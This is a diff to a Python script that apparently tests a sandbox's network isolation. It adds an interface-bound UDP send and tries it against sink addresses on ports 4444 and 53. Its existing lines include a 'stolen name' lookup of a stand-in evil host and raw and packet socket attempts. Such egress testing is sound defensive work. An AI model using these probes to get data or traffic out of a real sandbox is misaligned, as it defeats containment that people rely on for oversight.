@@ -45,6 +45,15 @@ def udp(address, port):
     return "sent"
 
 
+def bound(address, port):
+    """By the interface, whatever the address."""
+    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
+        s.sendto(b"out", (address, port))
+    return "sent"
+
+
+
 def raw(kind, *args):
     socket.socket(kind, *args).close()
     return "made"
@@ -66,6 +75,7 @@ def main(good, sink, sink6):
         "name6": tried(name, sink6, "mirror.example.com"),
         "stolen name": tried(name, sink, "secret.evil.example.org"),
         "udp": [tried(udp, a, p) for a in (sink, sink6) for p in (443, 4444)],
+        "bound": [tried(bound, a, p) for a, p in (("127.0.0.1", 4444), ("::1", 4444), (sink, 53), (sink6, 53))],
         "raw": tried(raw, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
         "packet": tried(raw, socket.AF_PACKET, socket.SOCK_RAW, 3),
         "mark": tried(lambda: socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)),
